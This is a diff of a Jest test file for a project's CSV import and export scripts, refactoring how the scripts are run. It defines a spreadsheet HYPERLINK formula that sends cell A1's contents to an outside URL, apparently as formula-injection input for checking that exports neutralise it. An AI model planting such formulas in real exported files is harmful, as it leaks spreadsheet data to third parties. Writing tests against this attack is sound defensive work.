@@ -1,8 +1,8 @@
-import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
+import { runCommand } from '../helpers/cli';
 
 /**
  * The files the command line writes (`npm run export`, `npm run export:site`) neutralise
@@ -12,17 +12,10 @@ import { parse } from 'csv-parse/sync';
 
 jest.setTimeout(400_000);
 
-const ROOT = path.join(__dirname, '..', '..');
-const TSX = path.join(ROOT, 'node_modules', '.bin', 'tsx');
 
 function run(script: 'import' | 'export' | 'export-site', args: string[], databasePath: string) {
-  const result = spawnSync(TSX, [`server/cli/${script}.ts`, ...args], {
-    cwd: ROOT,
-    env: { ...process.env, DATABASE_PATH: databasePath, DEMO_DATA: 'off', PORT: '' },
-    encoding: 'utf8',
-    timeout: 300_000,
-  });
-  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
+  const { status, stdout, stderr } = runCommand(script, args, { DATABASE_PATH: databasePath, DEMO_DATA: 'off', PORT: '' }, { timeout: 300_000 });
+  return { status, stdout, stderr };
 }
 
 const FORMULA = '=HYPERLINK("http://exemple.org/?d="&A1,"Cliquez ici")';
